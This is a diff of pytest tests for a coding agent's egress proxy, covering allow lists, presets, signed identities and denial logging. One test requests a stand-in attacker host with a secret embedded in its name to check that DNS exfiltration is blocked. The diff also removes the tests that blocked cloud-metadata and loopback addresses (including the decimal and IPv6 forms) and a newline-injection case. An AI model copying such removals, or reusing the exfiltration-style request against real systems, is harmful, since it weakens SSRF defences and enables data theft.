@@ -15,8 +15,7 @@ from coding_agent_core.egress import Role, password
 from tests.fixtures.egress import KEY, EgressProxy, StartEgress, through
 from tests.fixtures.system import until
 
-_PRIVATE = "127.0.0.1"
-_METADATA = "169.254.169.254"
+NAMES = ("packages", "a.b.wild", "wild", "notwild", "mine", "closed", "node", "more", "model", "nowhere")
 
 
 @pytest.fixture(scope="module")
@@ -42,164 +41,105 @@ def machine() -> Iterator[int]:
 @pytest.fixture(scope="module")
 def proxy(start_egress: StartEgress, machine: int) -> EgressProxy:
     """Names that end in `.inside` resolve to a private address."""
-    names = (
-        "packages.inside",
-        "a.b.wild.inside",
-        "wild.inside",
-        "notwild.inside",
-        "mine.inside",
-        "closed.inside",
-        "node.inside",
-        "more.inside",
-    )
-    return start_egress(
-        {
-            "egress": {
-                "allow": [
-                    f"packages.inside:{machine}",
-                    f"*.wild.inside:{machine}",
-                    f"closed.inside:{machine}",
-                    f"metadata.inside:{machine}",
-                    f"*.1:{machine}",
-                    "gone.invalid",
-                ],
-                "repositories": {"o/mine": [f"mine.inside:{machine}"]},
-                "presets": {
-                    "node": [f"node.inside:{machine}"],
-                    "node-more": [f"more.inside:{machine}"],
-                    "empty": [],
-                },
-                "private": [
-                    "packages.inside",
-                    "*.wild.inside",
-                    "wild.inside",
-                    "*.1",
-                    "mine.inside",
-                    "node.inside",
-                    "more.inside",
-                    "metadata.inside",
-                ],
-            },
-            "llm": {"openai": {"base_url": f"http://model.inside:{machine}/v1", "api_key": "k"}},
-        },
-        {
-            **dict.fromkeys((*names, "model.inside", "listed-nowhere.inside"), _PRIVATE),
-            "metadata.inside": _METADATA,
-        },
-    )
+
+    def here(*names: str) -> list[str]:
+        return [f"{name}.inside:{machine}" for name in names]
+
+    open_ones = ("packages", "*.wild", "wild", "mine", "node", "more")
+    egress = {
+        "allow": [*here("packages", "*.wild", "closed"), f"*.1:{machine}", "gone.invalid"],
+        "repositories": {"o/mine": here("mine")},
+        "presets": {"node": here("node"), "node-more": here("more"), "empty": []},
+        "private": [*(f"{name}.inside" for name in open_ones), "*.1"],
+    }
+    llm = {"openai": {"base_url": f"http://model.inside:{machine}/v1", "api_key": "k"}}
+    return start_egress({"egress": egress, "llm": llm}, {f"{name}.inside": "127.0.0.1" for name in NAMES})
 
 
-def test_what_a_workspace_reaches(proxy: EgressProxy, machine: int) -> None:
-    def status(host: str, **more: Any) -> int:
-        return proxy.get(f"http://{host}:{machine}/", **more).status_code
+@pytest.mark.parametrize(
+    ("host", "given", "status"),
+    [
+        ("packages", {}, 200),
+        ("PACKAGES", {}, 200),
+        ("a.b.wild", {}, 200),
+        ("wild", {}, 403),  # a wildcard is for what is below
+        ("notwild", {}, 403),
+        ("mine", {"repository": "O/Mine"}, 200),
+        ("mine", {}, 403),  # another repository's list
+        ("packages", {"repository": "o/mine"}, 200),  # the list for all holds too
+        ("closed", {}, 403),  # a private address that nobody has allowed
+        ("model", {}, 403),  # the agent's alone
+        ("model", {"role": Role.AGENT}, 200),  # the settings name it, so it may be private
+        ("packages", {"role": Role.AGENT}, 403),
+        ("node", {"presets": ["node"]}, 200),
+        ("more", {"presets": ["node"]}, 403),  # the beginning of another preset's name
+        ("node", {"presets": ["node-more"]}, 403),
+        ("node", {"presets": ["empty", "node", "node-more"]}, 200),
+        ("more", {"presets": ["empty", "node", "node-more"]}, 200),
+        ("packages", {"presets": ["node"]}, 200),
+        ("mine", {"presets": ["node"], "repository": "o/mine"}, 200),
+        ("node", {"presets": ["node"], "repository": "o/mine"}, 200),
+        ("nowhere", {"presets": ["node", "unknown"]}, 403),
+        ("node", {}, 403),
+    ],
+)
+def test_what_a_workspace_reaches(
+    proxy: EgressProxy, machine: int, host: str, given: dict[str, Any], status: int
+) -> None:
+    assert proxy.get(f"http://{host}.inside:{machine}/", **given).status_code == status
 
-    assert status("packages.inside") == 200
-    assert status("PACKAGES.inside") == 200
-    assert status("a.b.wild.inside") == 200
-    assert status("wild.inside") == 403, "a wildcard is for what is below"
-    assert status("notwild.inside") == 403
-    assert status("mine.inside", repository="O/Mine") == 200
-    assert status("mine.inside") == 403, "another repository's list"
-    assert status("packages.inside", repository="o/mine") == 200, "the list for all holds too"
-    assert status("closed.inside") == 403, "a private address that nobody has allowed"
-    assert status("metadata.inside") == 403, "credentials of the node, whatever the settings say"
-    assert status("model.inside") == 403, "the agent's alone"
-    assert status("127.0.0.1") == 403
-    assert status("[::1]") == 403
-    assert status("2130706433") == 403, "127.0.0.1 in another form"
 
-
-def test_ports_and_tunnels(proxy: EgressProxy, machine: int) -> None:
-    assert proxy.get("http://packages.inside/").status_code == 403, (
-        "plain HTTP to another port than the entry's"
-    )
-    assert proxy.get("https://packages.inside:22/").status_code == 403
-    assert proxy.get("https://gone.invalid:22/").status_code == 403
-    assert proxy.get("http://gone.invalid:443/").status_code == 403
-    assert proxy.get("https://gone.invalid/").status_code == 500, "allowed, and there is no such machine"
-    assert proxy.get("http://gone.invalid/").status_code == 502
-    assert proxy.get("https://listed-nowhere.inside/").status_code == 403
-
-
-def test_what_the_agent_reaches(proxy: EgressProxy, machine: int) -> None:
-    def status(host: str) -> int:
-        return proxy.get(f"http://{host}:{machine}/", role=Role.AGENT).status_code
-
-    assert status("model.inside") == 200, "the settings name it, so it may be private"
-    assert status("packages.inside") == 403
-    assert status("listed-nowhere.inside") == 403
+@pytest.mark.parametrize(
+    ("url", "status"),
+    [
+        ("http://packages.inside/", 403),  # another port than the entry's
+        ("https://packages.inside:22/", 403),
+        ("https://gone.invalid:22/", 403),
+        ("http://gone.invalid:443/", 403),
+        ("https://gone.invalid/", 500),  # allowed, and there is no such machine
+        ("http://gone.invalid/", 502),
+        ("https://nowhere.inside/", 403),
+    ],
+)
+def test_ports_and_tunnels(proxy: EgressProxy, url: str, status: int) -> None:
+    assert proxy.get(url).status_code == status
 
 
 def test_the_answer_says_what_to_do(proxy: EgressProxy, machine: int) -> None:
-    denied = proxy.get(f"http://listed-nowhere.inside:{machine}/").text
-    assert "listed-nowhere.inside" in denied
-    assert "egress.allow" in denied
-    private = proxy.get(f"http://closed.inside:{machine}/").text
-    assert "closed.inside" in private
-    assert "egress.private" in private
+    for host, setting in (("nowhere.inside", "egress.allow"), ("closed.inside", "egress.private")):
+        said = proxy.get(f"http://{host}:{machine}/").text
+        assert host in said
+        assert setting in said
 
 
-def test_identities(proxy: EgressProxy, machine: int) -> None:
-    def status(user: str, given: str) -> int:
-        return through(
-            f"http://{user}:{given}@{proxy.address}", f"http://packages.inside:{machine}/"
-        ).status_code
-
-    assert status("job-1.workspace", password("job-1.workspace", KEY)) == 200
-    assert status("job-1.workspace", password("job-1.workspace", "another key")) == 407
-    assert status("job-1.workspace", password("job-2.workspace", KEY)) == 407, "another attempt's"
-    assert status("job-1.workspace", password("job-1.agent", KEY)) == 407, "another container's"
-    assert status("job-1", password("job-1", KEY)) == 407, "no container"
-    assert status("job-1.workspace", "%0a") == 407
-    assert through(f"http://{proxy.address}", f"http://packages.inside:{machine}/").status_code == 407
-
-
-def test_presets(proxy: EgressProxy, machine: int) -> None:
-    def status(host: str, *presets: str, repository: str = "o/r") -> int:
-        url = f"http://{host}.inside:{machine}/"
-        return proxy.get(url, presets=presets, repository=repository).status_code
-
-    assert status("node", "node") == 200
-    assert status("node") == 403
-    assert status("more", "node") == 403, "the beginning of another preset's name"
-    assert status("node", "node-more") == 403
-    assert status("more", "node-more") == 200
-    assert [status(host, "empty", "node", "node-more") for host in ("node", "more")] == [200, 200]
-    assert status("packages", "node") == 200, "the list for all holds too"
-    assert status("mine", "node", repository="o/mine") == 200, "the repository's own too"
-    assert status("node", "node", repository="o/mine") == 200
-    assert status("mine", "node") == 403
-    assert status("listed-nowhere", "node", "unknown") == 403
-    assert status("node", "unknown") == 403
-
-
-def test_nobody_can_take_a_preset(proxy: EgressProxy, machine: int) -> None:
-    """The name is signed: a workspace that adds a preset to it has no password for it."""
-    own = "job-1.workspace"
-
-    def status(user: str, signed: str) -> int:
-        login = f"{user}:{password(signed, KEY)}"
-        return through(f"http://{login}@{proxy.address}", f"http://node.inside:{machine}/").status_code
-
-    assert status(own, own) == 403
-    assert status(f"{own}_node", own) == 407
-    assert status(f"{own}_node-more_node", f"{own}_node-more") == 407
-    assert status(own, f"{own}_node") == 407
-    assert status("job-1.agent", "job-1.agent") == 403, "presets are the workspace's"
-
-
-def test_denials_of_a_workspace_with_presets_are_its_attempts(proxy: EgressProxy) -> None:
-    proxy.get("https://listed-nowhere.inside/", "told-3", presets=["node"])
-    until(lambda: proxy.denials("told-3") == {"listed-nowhere.inside": 1}, "the denial is counted")
+@pytest.mark.parametrize(
+    ("user", "signed", "status"),
+    [
+        ("job-1.workspace", "job-1.workspace", 403),
+        ("job-1.workspace_node", "job-1.workspace_node", 200),
+        ("job-1.workspace", "job-2.workspace", 407),  # another attempt's password
+        ("job-1.workspace", "job-1.agent", 407),  # another container's
+        ("job-1", "job-1", 407),  # no container
+        # A workspace that adds a preset to its name has no password for it.
+        ("job-1.workspace_node", "job-1.workspace", 407),
+        ("job-1.workspace_node-more_node", "job-1.workspace_node-more", 407),
+        ("job-1.workspace", "job-1.workspace_node", 407),
+        ("job-1.agent", "job-1.agent", 403),  # presets are the workspace's
+    ],
+)
+def test_identities(proxy: EgressProxy, machine: int, user: str, signed: str, status: int) -> None:
+    url = f"http://node.inside:{machine}/"
+    assert through(f"http://{user}:{password(signed, KEY)}@{proxy.address}", url).status_code == status
+    assert through(f"http://{user}:{password(signed, 'other')}@{proxy.address}", url).status_code == 407
 
 
 def test_an_agent_hears_what_was_denied_to_its_attempt(proxy: EgressProxy, machine: int) -> None:
-    for _ in range(2):
-        proxy.get("https://listed-nowhere.inside/", "told-1")
+    proxy.get("https://nowhere.inside/", "told-1")
+    proxy.get("https://nowhere.inside/", "told-1", presets=["node"])
     proxy.get(f"http://packages.inside:{machine}/", "told-1")
-    proxy.get("https://listed-nowhere.inside:2222/", "told-1", Role.AGENT)
+    proxy.get("https://nowhere.inside:2222/", "told-1", Role.AGENT)
     proxy.get("https://other.example.com/", "told-2")
-    expected = {"listed-nowhere.inside": 2, "listed-nowhere.inside:2222": 1}
+    expected = {"nowhere.inside": 2, "nowhere.inside:2222": 1}
     until(lambda: proxy.denials("told-1") == expected, "the denials are counted")
     until(lambda: proxy.denials("told-2") == {"other.example.com": 1}, "another attempt's are apart")
     assert proxy.get("http://denials.egress.internal/", "told-1").status_code == 403, "not for the workspace"
@@ -209,20 +149,14 @@ def test_no_name_that_a_command_invents_is_resolved(proxy: EgressProxy) -> None:
     """A name server of the attacker's would read the secret in it."""
     proxy.get("https://the-secret.attacker.example/", "canary-1")
     entry = until(lambda: next((e for e in proxy.entries() if "canary" in e["user"]), None), "it is logged")
-    assert entry["result"] == "TCP_DENIED"
-    assert entry["user"] == "canary-1.workspace"
-    assert entry["host"] == "the-secret.attacker.example"
-    assert entry["address"] == "-"
+    assert (entry["result"], entry["user"]) == ("TCP_DENIED", "canary-1.workspace")
+    assert (entry["host"], entry["address"]) == ("the-secret.attacker.example", "-")
 
 
 def test_changed_settings_are_applied(proxy: EgressProxy, machine: int) -> None:
-    url = f"http://listed-nowhere.inside:{machine}/"
-    assert proxy.get(url).status_code == 403
+    url = f"http://nowhere.inside:{machine}/"
     settings = proxy.settings
-    more = {
-        "allow": [*settings["egress"]["allow"], f"listed-nowhere.inside:{machine}"],
-        "private": ["*.inside"],
-    }
+    more = {"allow": [f"nowhere.inside:{machine}"], "private": ["*.inside"]}
     proxy.write({**settings, "egress": {**settings["egress"], **more}})
 
     def allowed() -> bool:
